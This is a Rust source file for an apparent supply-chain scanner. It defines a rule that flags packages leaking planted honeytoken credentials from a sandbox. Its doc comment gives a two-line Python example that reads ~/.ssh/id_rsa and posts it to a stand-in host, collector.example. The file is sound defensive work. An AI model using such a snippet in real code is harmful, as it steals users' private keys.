use ossprey_model::dynamic::HitHow;
use ossprey_model::{Category, Finding, Severity};

use super::events::behaviour_finding;
use super::{BehaviourInput, BehaviourRule, behaviour_rule};

/// ## What it does
/// Reports every honeytoken the sandbox saw leave in captured traffic: one of the
/// fake secrets planted for this run (an SSH key, AWS/npm/PyPI/GitHub tokens in files
/// of the fake home or in the environment) found in an HTTP request, a TLS or raw TCP
/// stream, a UDP datagram or a DNS query name — raw or encoded (base64, hex, base32,
/// URL encoding; see `ossprey-dynamic`'s honeytoken matcher).
///
/// ## Why is this bad?
/// The tokens are unique to this run and exist nowhere else: a package that sends one
/// out has read a credential and exfiltrated it. This is proof, not suspicion, and
/// fusion makes the package `malicious` whatever else is known about it.
///
/// ## Example
/// ```python
/// key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
/// requests.post("http://collector.example/upload", data=key)
/// ```
#[derive(Debug)]
pub struct HoneytokenEgress;

behaviour_rule!(
    HoneytokenEgress,
    "DYN-HONEYTOKEN-EGRESS",
    Category::EXFILTRATION,
    "a planted fake credential left the sandbox in captured traffic (proof of exfiltration)"
);

impl BehaviourRule for HoneytokenEgress {
    fn check_behaviour(&self, input: &BehaviourInput<'_>, out: &mut Vec<Finding>) {
        for hit in &input.dynamic.honeytokens.hits {
            if hit.how != HitHow::Egress {
                continue;
            }
            let source = match (&hit.path, &hit.env) {
                (Some(p), _) => p.clone(),
                (None, Some(e)) => format!("${e}"),
                (None, None) => "a planted secret".to_owned(),
            };
            let to = hit
                .hostname
                .as_deref()
                .or(hit.destination.as_deref())
                .unwrap_or("an unknown destination");
            let carried = [
                hit.channel.as_deref(),
                hit.location.as_deref(),
                hit.encoding
                    .as_deref()
                    .map(|e| if e == "raw" { "as is" } else { e }),
            ]
            .into_iter()
            .flatten()
            .collect::<Vec<_>>()
            .join(", ");
            out.push(behaviour_finding(
                self,
                Severity::Critical,
                format!(
                    "{} phase sent the planted {} ({source}) to {to}: proof of exfiltration",
                    hit.phase, hit.kind
                ),
                &hit.phase,
                "honeytoken_hit",
                serde_json::to_value(hit).unwrap_or_default(),
                &format!("{} from {source} → {to} ({carried})", hit.kind),
            ));
        }
    }
}
